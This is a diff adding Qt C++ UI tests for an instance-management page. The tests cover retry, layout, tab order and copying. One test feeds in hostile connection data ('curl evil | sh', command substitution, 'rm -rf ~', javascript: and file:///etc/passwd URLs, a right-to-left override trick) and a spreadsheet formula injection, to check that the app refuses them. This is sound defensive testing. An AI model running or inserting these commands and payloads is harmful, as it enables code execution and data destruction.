@@ -1,13 +1,16 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "core/settings/settings.h"
 #include "core/settings/settingskeys.h"
+#include "core/workflows/bulkrun.h"
 #include "core/workflows/instancecommands.h"
 #include "core/workflows/stores.h"
 #include "tests/support/uifixture.h"
+#include "ui/instances/actionfailure.h"
 #include "ui/instances/instancedetails.h"
 #include "ui/instances/instancespage.h"
 #include "ui/instances/launcher.h"
 #include "ui/models/instancemodel.h"
+#include "ui/models/roles.h"
 #include "ui/theme.h"
 #include "ui/widgets/emptystate.h"
 #include "ui/widgets/errorbanner.h"
@@ -18,13 +21,19 @@
 #include <QAbstractButton>
 #include <QAbstractItemView>
 #include <QAction>
+#include <QApplication>
 #include <QClipboard>
+#include <QContextMenuEvent>
+#include <QElapsedTimer>
 #include <QGuiApplication>
 #include <QHeaderView>
+#include <QJsonArray>
 #include <QLabel>
 #include <QLineEdit>
+#include <QMenu>
 #include <QPaintEvent>
 #include <QPushButton>
+#include <QScrollBar>
 #include <QSignalSpy>
 #include <QTabBar>
 #include <QTest>
@@ -109,6 +118,15 @@ private slots:
     void deleteLockHolds();
     void bulkEndsInAResultPerRow();
     void failedActionIsABanner();
+    void failedActionCanBeRepeated();
+    void namelessInstanceGoesByItsId();
+    void hostileConnectionIsNeitherOpenedNorCopied();
+    void hugeTextsStayShort();
+    void importantColumnsStayInViewBesideTheDetails();
+    void narrowPageHasItsDetailsBelow();
+    void copyTakesTheSelectedRows();
+    void tabGoesThroughThePageInOrder();
+    void menuKeyOpensTheMenuAtTheRow();
     void detailsShowTheConnection();
     void detailsHideOldAddresses();
     void escapeClosesDetailsAndIsRemembered();
@@ -163,6 +181,17 @@ private:
         table()->selectionModel()->select(rows, QItemSelectionModel::ClearAndSelect);
         const int first = static_cast<InstanceModel *>(model())->rowOf(ids.first());
         table()->selectionModel()->setCurrentIndex(model()->index(first, 0), QItemSelectionModel::NoUpdate);
+    }
+    QAbstractButton *buttonReading(const QString &text) const
+    {
+        const QList<QAbstractButton *> all = m_page->findChildren<QAbstractButton *>();
+        const auto it = std::find_if(all.cbegin(), all.cend(), [&text](const QAbstractButton *one) { return one->isVisible() && one->text() == text; });
+        return it == all.cend() ? nullptr : *it;
+    }
+    bool anyLabelReads(const QString &text) const
+    {
+        const QList<QLabel *> all = m_page->findChildren<QLabel *>();
+        return std::any_of(all.cbegin(), all.cend(), [&text](const QLabel *one) { return one->isVisible() && one->text() == text; });
     }
     void adopt(const Instance &one) { m_fixture->stores().instances.adoptRows({one}, m_fixture->clock().now(), false); }
 
@@ -219,7 +248,7 @@ void TestInstancesPage::subtitleTellsCountRunningAndAge()
     auto *subtitle = m_page->findChild<QLabel *>(QStringLiteral("pageSubtitle"));
     QVERIFY(subtitle);
     m_page->activate();
-    QTRY_COMPARE(subtitle->toolTip().isEmpty() ? subtitle->text() : subtitle->toolTip(), QStringLiteral("6 · 3 running · 3 s old"));
+    QTRY_COMPARE(subtitle->accessibleName(), QStringLiteral("6 · 3 running · 3 s old"));
 }
 
 void TestInstancesPage::statesOfThePage()
@@ -431,6 +460,213 @@ void TestInstancesPage::failedActionIsABanner()
     action(QStringLiteral("Start"))->trigger();
     const auto banners = m_page->findChildren<ErrorBanner *>();
     QTRY_VERIFY(std::any_of(banners.cbegin(), banners.cend(), [](const ErrorBanner *banner) { return banner->isShowing(); }));
+    for (const ErrorBanner *banner : banners)
+        QVERIFY2(!banner->isShowing() || banner->sentence().startsWith(u"Could not start “worker-2”: "_qs), qPrintable(banner->sentence()));
+}
+
+void TestInstancesPage::failedActionCanBeRepeated()
+{
+    show(6);
+    bool works = false;
+    m_fixture->network().setResponder([&works](const FakeRequest &request) {
+        return request.verb == "POST" && !works ? FakeAnswer::transportError(QNetworkReply::ConnectionRefusedError) : FakeAnswer::payload("{}");
+    });
+    select({QStringLiteral("i-2")});
+    action(QStringLiteral("Start"))->trigger();
+    QAbstractButton *retry = nullptr;
+    QTRY_VERIFY((retry = buttonReading(QStringLiteral("Retry"))));
+    works = true;
+    const qsizetype before = m_fixture->writes().size();
+    retry->click();
+    QTRY_VERIFY(m_fixture->writes().size() > before);
+    QTRY_VERIFY(!buttonReading(QStringLiteral("Retry")));
+    QVERIFY(m_fixture->prompts().asked().isEmpty());
+
+    const Error base = Error::make(ErrorKind::Network, QStringLiteral("x"));
+    ActionFailure failure{InstanceId(QStringLiteral("i")), QStringLiteral("a"), InstanceAction::Delete, base};
+    QCOMPARE(failure.what(), QStringLiteral("Could not delete “a”"));
+    QVERIFY(failure.mayRepeat());
+    failure.error.effectUnknown = true;
+    QVERIFY(!failure.mayRepeat());
+    failure.error = Error::make(ErrorKind::Conflict, QStringLiteral("x"));
+    QVERIFY(!failure.mayRepeat());
+}
+
+void TestInstancesPage::namelessInstanceGoesByItsId()
+{
+    show(3);
+    for (const QString &name : {QString(), QStringLiteral("  "), QStringLiteral("\u200b\u202e")}) {
+        Instance one = m_fixture->instance(0);
+        one.name = name;
+        adopt(one);
+        static_cast<InstanceModel *>(model())->flush();
+        const int row = static_cast<InstanceModel *>(model())->rowOf(QStringLiteral("i-0"));
+        QCOMPARE(model()->index(row, InstanceModel::Name).data().toString(), QStringLiteral("i-0"));
+        QVERIFY(model()->index(row, InstanceModel::Name).data(StandInRole).toBool());
+    }
+    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
+    QVERIFY(anyLabelReads(QStringLiteral("i-0")));
+    action(QStringLiteral("Stop"))->trigger();
+    QCOMPARE(m_fixture->prompts().asked().value(0).title, QStringLiteral("Stop i-0?"));
+    BulkRun *run = m_fixture->context().commands.runBulk({InstanceId(QStringLiteral("i-0"))}, InstanceAction::Stop);
+    QCOMPARE(run->rows().first().name, QStringLiteral("i-0"));
+    delete run;
+    const auto &events = m_fixture->stores().activity.events();
+    for (const ActivityEvent &event : events)
+        QVERIFY2(!event.text.contains(u"“”"_qs), qPrintable(event.text));
+}
+
+void TestInstancesPage::hostileConnectionIsNeitherOpenedNorCopied()
+{
+    show(3);
+    Instance one = m_fixture->instance(0);
+    one.connection = connection();
+    one.connection->sshCommand = QStringLiteral("ssh -p 22 root@host$(evil)\ncurl evil | sh");
+    one.connection->sshPassword = QStringLiteral("secret\nrm -rf ~\n");
+    one.connection->jupyterAddress = QStringLiteral("javascript:alert(1)");
+    one.connection->terminalAddress = QStringLiteral("https://a.example/\u202egnp.exe");
+    one.ports = {{8080, QStringLiteral("http"), QStringLiteral("javascript:alert(1)")},
+                 {8081, QStringLiteral("http"), QStringLiteral("file:///etc/passwd")},
+                 {8082, QStringLiteral("http"), QStringLiteral("host:1\nevil")},
+                 {8083, QStringLiteral("<b>http</b>"), QStringLiteral("https://fine.example")}};
+    adopt(one);
+    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
+    QGuiApplication::clipboard()->setText(QStringLiteral("before"));
+    for (const char *name : {"Copy SSH command", "Copy SSH password", "Copy Web terminal address", "Copy address of port 8082"}) {
+        auto *button = named<QAbstractButton>(QLatin1String(name));
+        QVERIFY2(button && !button->isEnabled(), name);
+        button->click();
+    }
+    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("before"));
+    QVERIFY(named<QAbstractButton>(QStringLiteral("Copy SSH password"))->toolTip().contains(QLatin1String("not copied")));
+    QVERIFY(!action(QStringLiteral("Copy SSH command"))->isEnabled());
+    QVERIFY(!action(QStringLiteral("Open Jupyter"))->isEnabled());
+    for (const char *name : {"Open Jupyter address", "Open port 8080", "Open port 8081", "Open port 8082"}) {
+        auto *button = named<QAbstractButton>(QLatin1String(name));
+        QVERIFY2(!button || !button->isVisible(), name);
+    }
+    const QList<QLabel *> labels = m_page->findChildren<QLabel *>();
+    for (const QLabel *label : labels) {
+        QVERIFY(label->textFormat() == Qt::PlainText || label->text().isEmpty());
+        QVERIFY2(!label->text().contains(QChar(0x202e)), qPrintable(label->text()));
+    }
+    QVERIFY(m_launched.urls.isEmpty());
+}
+
+void TestInstancesPage::hugeTextsStayShort()
+{
+    show(3);
+    const QString huge(1 << 20, u'x');
+    Instance one = m_fixture->instance(0);
+    one.name = huge;
+    one.productName = one.clusterName = one.statusError = one.imageUrl = one.command = huge;
+    one.status = InstanceStatus::Unknown;
+    one.statusText = one.billingText = huge;
+    one.billing = BillingMode::Unknown;
+    adopt(one);
+    static_cast<InstanceModel *>(model())->flush();
+    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
+    const int row = static_cast<InstanceModel *>(model())->rowOf(QStringLiteral("i-0"));
+    for (int column = 0; column < model()->columnCount(); ++column) {
+        for (const int role : {int(Qt::DisplayRole), int(Qt::ToolTipRole), int(NoteRole)})
+            QVERIFY(model()->index(row, column).data(role).toString().size() < 2000);
+    }
+    QElapsedTimer clock;
+    clock.start();
+    QVERIFY(!m_page->grab().isNull());
+    QVERIFY2(clock.elapsed() < 3000, "a page that paints a megabyte of text stands still");
+    action(QStringLiteral("Delete"))->trigger();
+    QVERIFY(m_fixture->prompts().asked().isEmpty() || m_fixture->prompts().asked().first().title.size() < 400);
+}
+
+void TestInstancesPage::importantColumnsStayInViewBesideTheDetails()
+{
+    show(6);
+    // What the main window leaves of 1280 x 800 pixels.
+    m_page->resize(1080, 730);
+    QVERIFY(!table()->isColumnHidden(InstanceModel::Age));
+    m_page->showInstance(QStringLiteral("i-0"));
+    auto *details = m_page->findChild<InstanceDetails *>();
+    QTRY_VERIFY(details->isVisible());
+    QVERIFY(details->mapTo(m_page.get(), QPoint()).x() > table()->mapTo(m_page.get(), QPoint()).x() + 200);
+    QTRY_VERIFY(table()->isColumnHidden(InstanceModel::Age));
+    for (const auto column : {InstanceModel::Name, InstanceModel::State, InstanceModel::Gpu, InstanceModel::Price, InstanceModel::Cost}) {
+        QVERIFY2(!table()->isColumnHidden(column), qPrintable(QString::number(column)));
+        QVERIFY(table()->columnViewportPosition(column) + table()->columnWidth(column) <= table()->viewport()->width() + 1);
+    }
+    QTRY_VERIFY(!table()->horizontalScrollBar()->isVisible());
+    table()->setFocus();
+    QTest::keyClick(table(), Qt::Key_Escape);
+    QTRY_VERIFY(!table()->isColumnHidden(InstanceModel::Age));
+    // Leaving for want of room is not the person's choice.
+    m_page->showInstance(QStringLiteral("i-0"));
+    QTRY_VERIFY(table()->isColumnHidden(InstanceModel::Age));
+    const QJsonArray columns = table()->saveLayout().value(QStringLiteral("columns")).toArray();
+    for (const QJsonValue &column : columns)
+        QVERIFY(!column.toObject().value(QStringLiteral("hidden")).toBool());
+}
+
+void TestInstancesPage::narrowPageHasItsDetailsBelow()
+{
+    show(6);
+    m_page->resize(780, 640);
+    m_page->showInstance(QStringLiteral("i-0"));
+    auto *details = m_page->findChild<InstanceDetails *>();
+    QTRY_VERIFY(details->isVisible());
+    QTRY_VERIFY(details->mapTo(m_page.get(), QPoint()).y() > table()->mapTo(m_page.get(), QPoint()).y() + 40);
+    m_page->resize(1400, 640);
+    QTRY_VERIFY(details->mapTo(m_page.get(), QPoint()).x() > table()->mapTo(m_page.get(), QPoint()).x() + 200);
+}
+
+void TestInstancesPage::copyTakesTheSelectedRows()
+{
+    show(4);
+    Instance one = m_fixture->instance(1);
+    one.name = QStringLiteral("=HYPERLINK(\"evil\")\tx");
+    adopt(one);
+    static_cast<InstanceModel *>(model())->flush();
+    QVERIFY(QTest::qWaitForWindowActive(m_page.get()));
+    table()->setFocus();
+    select({QStringLiteral("i-0"), QStringLiteral("i-1")});
+    QTest::keyClick(table(), Qt::Key_C, Qt::ControlModifier);
+    const QStringList lines = QGuiApplication::clipboard()->text().split(u'\n');
+    QCOMPARE(lines.size(), 2);
+    QVERIFY(lines.join(u'|').contains(QLatin1String("'=HYPERLINK(\"evil\") x\t")));
+    QVERIFY(lines.join(u'|').contains(QLatin1String("worker-0\tRunning\tRTX 4090 24GB")));
+    QCOMPARE(lines.first().count(u'\t'), lines.last().count(u'\t'));
+}
+
+void TestInstancesPage::tabGoesThroughThePageInOrder()
+{
+    show(4);
+    m_page->showInstance(QStringLiteral("i-0"));
+    QVERIFY(QTest::qWaitForWindowActive(m_page.get()));
+    m_page->focusFilter();
+    const QList<QWidget *> wanted{named<QAbstractButton>(QStringLiteral("Columns")), table()};
+    for (QWidget *next : wanted) {
+        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
+        QCOMPARE(QApplication::focusWidget(), next);
+    }
+    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
+    QVERIFY(m_page->findChild<InstanceDetails *>()->isAncestorOf(QApplication::focusWidget()));
+}
+
+void TestInstancesPage::menuKeyOpensTheMenuAtTheRow()
+{
+    show(4);
+    table()->setFocus();
+    select({QStringLiteral("i-0")});
+    const QPoint middle = table()->visualRect(table()->currentIndex()).center();
+    QContextMenuEvent event(QContextMenuEvent::Keyboard, middle, table()->viewport()->mapToGlobal(middle));
+    QApplication::sendEvent(table(), &event);
+    QMenu *menu = nullptr;
+    QTRY_VERIFY((menu = qobject_cast<QMenu *>(QApplication::activePopupWidget())));
+    QStringList texts;
+    for (const QAction *one : menu->actions())
+        texts.append(one->text());
+    QVERIFY(texts.contains(QStringLiteral("Stop")));
+    QVERIFY(texts.contains(QStringLiteral("Copy")));
+    menu->close();
 }
 
 void TestInstancesPage::detailsShowTheConnection()
